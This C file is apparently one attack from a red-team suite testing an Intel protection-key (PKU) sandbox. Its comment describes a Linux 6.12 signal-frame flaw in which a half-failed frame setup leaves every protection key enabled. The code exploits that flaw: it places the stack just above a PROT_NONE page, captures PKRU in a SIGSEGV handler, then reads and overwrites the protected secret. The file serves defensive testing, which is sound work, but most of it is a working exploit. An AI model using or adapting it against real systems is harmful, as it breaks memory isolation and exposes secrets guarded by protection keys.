/* SPDX-License-Identifier: MIT */
/* atk_pkrufail.c: a signal frame that fails half-way leaves every key
 * enabled (red team 54, rt54_pkrufail; Linux 6.12).
 *
 * 6.12's get_sigframe() enables every protection key (sig_prepare_pkru)
 * before it writes the frame's XSAVE image, and disables them again only if
 * that write fails.  When the XSAVE image fits in a writable page but the
 * struct rt_sigframe below it falls into a PROT_NONE page, the setup fails
 * later (EFAULT), handle_signal() skips fpu__clear_user_states(), and the
 * SIGSEGV the kernel then forces is taken with PKRU 0: its frame records
 * PKRU 0 as the one to return to, and rt_sigreturn hands untrusted code
 * every key, without a WRPKRU.
 *
 * The attack: %rsp just above a PROT_NONE page (five offsets, one fork
 * each), tgkill(self, SIGUSR1); a SIGSEGV handler of the program's own on
 * an untrusted sigaltstack notes the frame's PKRU and returns to the code
 * after the tgkill, which reads RDPKRU and, if it grants the key, reads and
 * writes the secret.  Under erim-tem the forced SIGSEGV stops the process at
 * its delivery (PKRU grants the key: tem_signal.c).  Before 6.12 the frame
 * keeps the task's PKRU: not applicable.  (liberim's own SIGSEGV handler
 * would see PKRU 0 in the frame and stop the process: the route needs a
 * handler installed behind liberim's back, security.md.) */
#include <cpuid.h>
#include <ucontext.h>

#include "atk_common.h"

static volatile int segv_count;
static volatile uint32_t frame_pkru = 0xffffffffu;
static uint32_t pkru_off;

static void on_usr1(int s)
{
	(void)s;
}

static void on_segv(int s, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;
	uint8_t *x = (uint8_t *)uc->uc_mcontext.fpregs;

	(void)s;
	(void)si;
	if (++segv_count > 1)
		_exit(ATK_REFUSED);   /* the read of the secret faulted: PKRU closed */
	if (x) {
		uint64_t bv;

		memcpy(&bv, x + 512, 8);
		if (bv & (1u << 9))
			memcpy((void *)&frame_pkru, x + pkru_off, 4);
	}
	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)atk_raise_back;
}

static int attempt(unsigned delta, unsigned fs)
{
	uint8_t *m = mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t top;
	uint32_t now, bits = 3u << (2 * atk_pkey);

	if (m == MAP_FAILED || mprotect(m + 4096, 4096, PROT_NONE) != 0)   /* below the XSAVE page */
		return ATK_ERROR;
	top = (uint64_t)(uintptr_t)(m + 2 * 4096) + 128 + fs + delta;
	atk_raise_on(top);
	now = atk_rdpkru();
	atk_say("offset %u: %%rsp 0x%llx; the SIGSEGV handler ran %d time(s), frame PKRU 0x%08x; PKRU now 0x%08x",
	        delta, (unsigned long long)top, segv_count, frame_pkru, now);
	if ((now & bits) != bits) {
		uint8_t b[4];

		memcpy(b, (const void *)atk_secret, sizeof b);
		atk_say("untrusted code holds PKRU 0x%08x and read the secret: %02x %02x %02x %02x", now, b[0], b[1],
		        b[2], b[3]);
		((volatile uint8_t *)atk_secret)[0] = 0x41;
		return ATK_SUCCEEDED;
	}
	return ATK_REFUSED;
}

static enum atk_result atk_attack(void)
{
	static const unsigned deltas[] = { 8, 40, 72, 136, 264 };
	unsigned a, b, c, d, fs;
	struct sigaction sa;
	stack_t ss;
	int any = 0;

	__cpuid_count(0xd, 0, a, b, c, d);
	fs = b + 4;   /* the XSAVE image of the enabled features + FP_XSTATE_MAGIC2 */
	__cpuid_count(0xd, 9, a, b, c, d);
	pkru_off = b;
	ss.ss_sp = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	ss.ss_size = 65536;
	ss.ss_flags = 0;
	if (ss.ss_sp == MAP_FAILED || sigaltstack(&ss, NULL) != 0)
		return ATK_ERROR;
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_usr1;
	sigaction(SIGUSR1, &sa, NULL);
	sa.sa_sigaction = on_segv;
	sa.sa_flags = SA_SIGINFO | SA_ONSTACK | SA_NODEFER;
	sigaction(SIGSEGV, &sa, NULL);
	for (size_t i = 0; i < sizeof deltas / sizeof deltas[0]; i++) {
		pid_t p;
		int st;

		fflush(stdout);
		p = fork();
		if (p == 0)
			_exit(attempt(deltas[i], fs));
		if (p < 0 || waitpid(p, &st, 0) != p)
			return ATK_ERROR;
		if (WIFSIGNALED(st))
			atk_say("offset %u: the attempt was stopped (signal %d)", deltas[i], WTERMSIG(st));
		else if (WEXITSTATUS(st) == ATK_SUCCEEDED)
			any = 1;
	}
	if (!any && !atk_under_tem && atk_kernel_before_6_12()) {
		atk_say("kernel before 6.12: the frame keeps the task's PKRU, nothing to leave open");
		return ATK_NA;
	}
	return any ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_pkrufail";
static int atk_needs_pku = 1;
